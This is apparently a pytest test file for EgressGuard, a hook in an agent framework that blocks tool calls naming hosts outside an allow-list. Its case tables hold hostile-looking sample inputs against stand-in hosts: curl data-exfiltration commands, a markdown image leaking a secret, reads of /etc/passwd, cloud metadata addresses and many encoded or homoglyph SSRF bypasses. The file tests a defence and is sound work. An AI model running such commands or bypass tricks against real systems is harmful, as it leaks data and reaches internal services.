"""EgressGuard: the hosts that tool calls may name.

Tables of cases keep several cases on a line (``fmt: skip``), so that they can be read as a whole.
"""

import socket
from ipaddress import IPv4Address
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import AnyUrl, BaseModel, HttpUrl

from hookline import RegistrationError, call, tool
from hookline._base.frozen import freeze
from hookline.hooks import EgressGuard
from hookline.testing import scripted_agent
from hookline.tools import Egress, Tool, file_tools
from hookline.tools.arguments import urls_in_text
from tests.cases import each_case
from tests.properties import examples

GOOD = ["good.com", "*.wild.org", "http://localhost:8000"]


@tool
def do(**given: Any) -> str:
    return "did it"


def outcome(arguments, guard=None, tools=(do,), name="do"):
    guard = guard or EgressGuard(GOOD, resolve=False)
    return scripted_agent([call(name, **arguments), "ok"], tools=tools, hooks=[guard]).run("go").steps[0].outcomes[0]


BLOCKED = [
    {"url": "https://evil.com"}, {"url": "evil.com"}, {"url": "//evil.com"}, {"url": "https:/evil.com"},
    {"url": "/\\evil.com"},
    {"url": "https:evil.com"}, {"url": "@evil.com"}, {"url": ".evil.com"}, {"url": "file:///etc/passwd"},
    {"url": "evil"},
    {"url": " https://good.com"}, {"url": "https://good.com\n.evil.com"}, {"url": "\thttps://evil.com"},
    {"url": "data:,x"},
    {"url": "git@evil.com:a/b"}, {"url": "/\t/evil.com"}, {"imageUrl": "evil.com/x"},
    {"url_to_fetch": "evil.com"}, {"urls": ["evil.com"]},
    {"base_url": "https://good.com@evil.com"}, {"URI": "ftp://good.com"}, {"href": "javascript:alert(1)"},
    {"webhook": "evil.com/h"},
    {"host": "evil.com"}, {"hostname": "a.localhost"}, {"host": "2130706433"}, {"host": "metadata"},
    {"ip": "10.0.0.1"}, {"host": "[::1]"},
    {"domain": "evil.com"}, {"domain": "evil。com"}, {"endpoint": "evil.com/v1"}, {"server": "evil.com:22"},
    {"link": "//evil.com"},
    {"address": "evil.com"}, {"addr": "evil.com:25"}, {"target": "evil.com"}, {"api_base": "evil.com/v1"},
    {"remote": "git@evil.com:a/b"}, {"peer": "10.0.0.1"}, {"remoteAddr": "evil.com"},
    {"text": "//evil.net/x"}, {"text": "see '//evil.net/x'"}, {"html": "<img src=//evil.net/x>"},
    {"html": '<img src="//evil.net">'}, {"css": "url(//evil.net/x.png)"}, {"text": "//evil.net:8080"},
    {"server": "localhost:22"}, {"proxy": "0x7f000001"}, {"domain": "169.254.169.254"}, {"callback": "user@evil.com"},
    {"anything": "https://evil.com"}, {"q": {"deep": [{"er": ["x", "https://evil.com"]}]}},
    {"q": {"https://evil.com": 1}},
    {"command": "curl https://evil.com"}, {"command": "curl -d @x https://evil.com/?q=1 && ls"},
    {"command": "x=https://evil.com;y"},
    {"command": "curl 'https://evil.com'"}, {"command": "curl https://good.com https://evil.com"},
    {"command": "curl ftp://evil.com"},
    {"command": "curl 'https://good.com'@evil.com"}, {"command": 'curl "https://good.com".evil.com'},
    {"command": "curl https://good.com\\@evil.com"},
    {"command": "curl https://good.com${x}"}, {"command": "curl https://good.com{.evil.com,}"},
    {"command": "curl http:/evil.com"},
    {"command": "curl https:evil.com"}, {"command": "curl https:\\\\evil.com"},
    {"command": "nc tcp://evil.com"}, {"code": "get('https://evil.com')"},
    {"command": "git clone ssh://git@evil.com/x"}, {"command": "curl https://good.com?@evil.com"},
    {"command": "curl HTTPS://EVIL.COM"},
    {"text": "![x](https://evil.com/?d=secret)"}, {"text": "<img src=https://evil.com>"},
    {"json": '{"u":"https://evil.com"}'},
    {"json": '{"u":"https:\\/\\/evil.com"}'}, {"text": "https://good.com,https://evil.com"},
    {"text": "see https://good.com/?u=https://evil.com"},
    {"text": "https://good.com\n.evil.com"}, {"text": "https://good.com\u200b.evil.com"},
    {"text": "h\nttps://evil.com"},
    {"text": "https:\n//evil.com"}, {"text": "https\n://evil.com/x"},
    {"text": "https://good.com\u00a0.evil.com"}, {"text": "https://good.com&.evil.com"},
    {"text": "jar:https://evil.com!/"}, {"text": "(see https://evil.com)"},
    {"text": "blob:https://evil.com/1"}, {"text": "//x https://evil.com"},
    {"text": "1https://evil.com"}, {"text": "http://good.com"}, {"text": "https://good.com:22"},
    {"text": "https://gооd.com is good"},
    {"text": "file:////evil/share"}, {"text": "smb://evil/share"}, {"text": "postgres://u:p@evil.com/db"},
    {"text": "wss://good.com"},
    {"text": "see http://\tevil.com"}, {"text": "see http://\nevil.com"}, {"text": "see http://''evil.com"},
    {"text": "see http://\"\"evil.com"}, {"text": "see http://\u00a0evil.com"}, {"text": "see http://.evil.com"},
    {"text": "https://good.com https:///evil.com"}, {"text": "x " * 9 + "https://[::1]/"}, {"text": "a:// " * 10_002},
]  # fmt: skip

PASSING = [
    {"url": "https://good.com"}, {"url": "https://good.com/a?b=https://evil.com"}, {"url": "good.com/x"},
    {"url": "/docs/a"}, {"url": "#top"},
    {"url": "?page=2"}, {"url": ""}, {"url": None}, {"url": 3}, {"urls": ["https://a.wild.org", "good.com"]},
    {"host": "good.com"},
    {"host": "localhost:8000"}, {"url": "http://localhost:8000/x"}, {"host": "a.wild.org"},
    {"domain": "finance"}, {"domain": "good.com"},
    {"server": "production"}, {"endpoint": "/v1/users"}, {"endpoint": "users"}, 
    {"link": "see above, e.g. there"}, {"origin": "New York, N.Y."},
    {"text": "See https://good.com."}, {"text": "See https://good.com, then"}, {"text": "(https://good.com)"},
    {"text": "<https://good.com>"},
    {"text": "[x](https://good.com)"}, {"text": '<a href="https://good.com">link</a> me@x.org'},
    {"text": "https://good.com\nhttps://a.wild.org/x"},
    {"text": "https://good.com/a and https://a.wild.org/b?c=d"}, {"json": '{"a":"https://good.com","b":"c"}'},
    {"command": "curl https://good.com/x | jq ."},
    {"command": "curl 'https://good.com/x?y=z'; ls"}, {"command": "curl \"https://good.com\" > out"},
    {"code": "get('https://good.com')"},
    {"text": "Is it true?: yes // no"}, {"path": "C:\\Users\\me"}, {"path": "C:/x"}, {"text": "a://b"},
    {"text": "sqlite:///notes.db"},
    {"text": "file:///tmp/x is a file"}, {"text": "5:30//6:30"}, {"text": "me@evil.com"}, {"text": "evil.com"},
    {"text": "std::cout // comment"},
    {"text": "http: the protocol"}, {"text": "news:today, views:10, x_http:y"},
    {"text": "https://good.com: our site"}, {"text": "**https://good.com**"},
    {"text": "x" * 10**6},
    {"text": "Read https://good.com!"}, {"text": "see https://good.com/a@b and https://good.com/c"},
    {"hosting": "evil.com"}, {"curl": "evil.com"},
    {"text": "use https:// instead of http://"}, {"text": "It begins with `https://`, not 'http://'."},
]  # fmt: skip


@each_case("arguments", BLOCKED)
def test_a_call_that_names_another_host_is_blocked(arguments):
    assert outcome(arguments) == "blocked"


@each_case("arguments", PASSING)
def test_harmless_calls_pass(arguments):
    assert outcome(arguments) == "ok"


@each_case(
    "arguments",
    [
        {"place": "evil.com"},
        {"anything": "evil.com:443"},
        {"x": "10.0.0.1"},
        {"x": "10.0.0.1:80/x"},
        {"q": ["evil.com/x"]},
        {"x": "[::1]"},
        {"x": " evil.com "},
        {"x": "EVIL.com?q"},
        {"x": "xn--e1afmkfd.xn--p1ai"},
        {"x": "evil\u3002com"},
        {"x": "evil\uff0ecom/x"},
        {"x": "git@evil.com:a/b"},
        {"x": "git@evil.zip:a"},
        {"server": "127\u20240\u20240\u20241"},
        {"x": "127\u20240\u20240\u20241"},
        {"x": "evil\u2024com"},
        {"server": "loc\u00adalhost"},
        {"x": "loc\u00adalhost"},
        {"server": "\u24dbocalhost"},
        {"x": "\u24dbocalhost"},
        {"x": "localhost:9"},
        {"page": "localhost:49545"},
        {"x": "localhost:9/x"},
        {"x": "localhost."},
        {"x": "ip6-localhost"},
        {"server": "ip6-localhost"},
        {"x": "::1"},
        {"x": "::ffff:127.0.0.1"},
        {"x": "fe80::1%eth0"},
        {"x": "0177.0.0.1"},
        {"x": "0x7f.0.0.1:80"},
        {"x": "127.0.0.1."},
        {"server": "0177.0.0.1"},
        {"x": "evil.com."},
        {"x": "evil.com.:443"},
        {"x": "evil.com./x"},
        {"server": "evil.com."},
        {"x": "https%3A//evil.com"},
        {"x": "https%3A%2F%2Fevil.com"},
        {"x": "evil%2ecom"},
        {"x": "%65vil.com"},
        {"x": "root@evil:22"},
        {"x": "root@evil"},
        {"x": "evil:8080"},
        {"server": "evil:8080"},
        {"x": "evil:8080/x"},
        {"x": "\uff11\uff12\uff17.0.0.1"},
        {"x": "evil.com\u200b"},
        {"x": [{"y": "evil.com."}]},
        {"x": "good.com,evil.com"},
        {"x": "good.com evil.com:443"},
        {"x": "<evil.com>"},
        {"x": "'evil.com'"},
        {"x": "good.com; 10.0.0.1"},
        {"x": "evil.com:/path"},
    ],  # fmt: skip
)
def test_every_text_that_can_be_a_host_is_judged_if_the_tool_declares_to_connect(arguments):
    connect = Tool(lambda **given: "connected", name="do", effects=["network"])
    assert outcome(arguments, tools=[connect]) == "blocked"
    assert outcome({"place": "good.com", "others": "good.com, a.wild.org"}, tools=[connect]) == "ok"


@each_case(
    "arguments",
    [
        {"subject": "hello"},
        {"amount": "3.14"},
        {"version": "1.2.3"},
        {"version": "v1.2"},
        {"x": "report.pdf"},
        {"file_name": "evil.com"},
        {"q": "a sentence about evil.com"},
        {"to": "bob@evil.com"},
        {"x": "git@good.com:a/b"},
        {"x": "README.md"},
        {"x": "e.g."},
        {"x": "..."},
        {"x": "a.b"},
        {"server": "production"},
        {"x": "evil"},
        {"x": "12:30"},
        {"x": "12:30:45"},
        {"x": "50%25"},
        {"x": "a%20b"},
        {"x": "caf\u00e9"},
        {"x": "\u2026"},
        {"x": "news:today"},
        {"x": "std::vector"},
        {"x": "bob@evil.com"},
        {"x": "good%2ecom"},
        {"text": "evil.com"},
    ],  # fmt: skip
)
def test_other_texts_of_a_tool_that_declares_to_connect_pass(arguments):
    connect = Tool(lambda text="", **given: "connected", name="do", effects=["network"], texts=["text"])
    assert outcome(arguments, tools=[connect]) == "ok"


def test_the_message_names_the_allowed_hosts():
    agent = scripted_agent([call("do", url="https://evil.com"), "ok"], tools=[do], hooks=[EgressGuard(GOOD)])
    (message,) = [message for message in agent.run("go").messages if message.role == "tool"]
    assert message.content == (
        "'https://evil.com' is not allowed: evil.com is not one of the allowed hosts "
        "(good.com, *.wild.org, http://localhost:8000). Use another source, or go on without it."
    )


class Feed(BaseModel):
    where: HttpUrl
    title: str = ""


def test_urls_are_found_by_type_and_format_too():
    def read(feed: Feed, place: AnyUrl, many: list[HttpUrl], peer: IPv4Address, note: str = "") -> str:
        return "read"

    found = Tool(read).urls(
        freeze(
            {"feed": {"where": "a", "title": "t"}, "place": "b", "many": ["c"], "peer": "d", "note": "e https://f.org"}
        )
    )
    assert list(found) == ["a", "b", "c", "d", "https://f.org"]


def test_links_in_notes_are_allowed(tmp_path):
    text = {"path": "links.md", "content": "See https://evil.com"}
    tools = file_tools(tmp_path, write=True)
    assert outcome(text, tools=tools, name="write_file") == "ok"
    assert outcome(text, EgressGuard(GOOD, local=(), resolve=False), tools, "write_file") == "ok"
    writer = Tool(lambda url, text: "sent", name="write_to")
    assert outcome({"url": "https://evil.com", "text": "x"}, tools=[writer], name="write_to") == "blocked"


@pytest.mark.parametrize(
    ("declared", "expected"),
    [
        (None, "blocked"),
        (["network"], "blocked"),
        (["execute"], "blocked"),
        (["read", "write", "delete"], "ok"),
        ([], "ok"),
    ],
)
def test_texts_are_searched_unless_the_tool_declares_that_it_does_not_connect(declared, expected):
    note = Tool(lambda note: "noted", name="put", effects=declared)
    assert outcome({"note": "See https://evil.com"}, tools=[note], name="put") == expected
    named = Tool(lambda url: "noted", name="put", effects=declared)
    assert outcome({"url": "https://evil.com"}, tools=[named], name="put") == "blocked"


def test_only_chosen_tools_are_judged():
    arguments = {"url": "https://evil.com"}
    assert outcome(arguments, EgressGuard([], tools="fetch*")) == "ok"
    assert outcome(arguments, EgressGuard([], tools=["fetch*", "d?"])) == "blocked"


@pytest.fixture
def names(monkeypatch):
    table, asked = {}, []

    def look_up(host, port, *args, **options):
        asked.append(host)
        if host not in table:
            raise socket.gaierror(-2, "Name or service not known")
        return [(socket.AF_INET, 1, 6, "", (table[host], port))]

    monkeypatch.setattr(socket, "getaddrinfo", look_up)
    return table, asked


def test_names_are_resolved_and_private_addresses_blocked(names):
    table, asked = names
    table |= {"good.com": "93.184.216.34", "in.wild.org": "10.0.0.1", "meta.wild.org": "169.254.169.254"}
    guard = EgressGuard(GOOD)
    assert outcome({"url": "https://good.com", "text": "and https://good.com/again"}, guard) == "ok"
    assert asked == ["good.com"]
    assert outcome({"host": "in.wild.org"}, guard) == "blocked"
    assert outcome({"command": "curl https://meta.wild.org/latest"}, guard) == "blocked"
    assert outcome({"url": "https://missing.wild.org"}, guard) == "blocked"
    assert outcome({"host": "in.wild.org"}, EgressGuard(Egress(GOOD, private=True))) == "ok"
    assert outcome({"host": "in.wild.org"}, EgressGuard(GOOD, resolve=False)) == "ok"


def test_it_is_a_guard_that_fails_closed():
    assert (EgressGuard.priority, EgressGuard.phase) == (100, "guard")


@pytest.mark.parametrize("options", [{"hosts": "x"}, {"hosts": [3]}, {"tools": []}, {"local": "x"}, {"resolve": 1}])
def test_invalid_arguments_are_rejected(options):
    with pytest.raises(RegistrationError):
        EgressGuard(**{"hosts": GOOD, **options})


def test_too_many_hosts_are_blocked():
    assert outcome({"text": " ".join(f"https://h{n}.wild.org" for n in range(300))}) == "blocked"


PIECES = st.sampled_from(
    ["https://", "://", ":", "/", "\\", "good.com", "evil.com", "@", "?", "#", " ", "\n", "\t", "'", '"', ">",
    "<", ")", "(", ",",
     ".", "a", "1", "\u200b", "\ud800", "。", "\0", "http:", "$", "{", "}", "&", ";"]
)  # fmt: skip
TEXTS = st.text(max_size=40) | st.lists(PIECES, max_size=14).map("".join)


@pytest.mark.slow
@settings(max_examples=examples(300), deadline=None)
@given(
    st.recursive(
        TEXTS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3), max_leaves=5
    )
)
def test_any_arguments_have_a_defined_outcome(value):
    found = list(do.urls(freeze({"x": value, "url": value, "domain": value})))
    assert all(isinstance(text, str) for text in found)


@pytest.mark.slow
@settings(max_examples=examples(500), deadline=None)
@given(TEXTS, TEXTS)
def test_no_other_host_behind_a_scheme_is_overlooked(before, after):
    """A URL of another host, followed by a space, is found whatever stands around it."""
    text = f"{before} https://evil.com/ {after}"
    judged = [Egress(GOOD).check(link) for link in urls_in_text(text)]
    assert any(verdict is not None for verdict in judged)


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece", ["://", "a://", "1://", "a:/", "https://good.com ", "https://", "@", "a", "'", "\n", "\u200b", "http:a"]
)
def test_a_huge_text_takes_time_as_it_is_long(piece):
    text = piece * (2_000_000 // len(piece))
    count = 0
    for link in urls_in_text(text):
        count += 1
        if Egress(GOOD).check(link) is not None:
            break
    assert count <= 2_000_000 // len(piece)
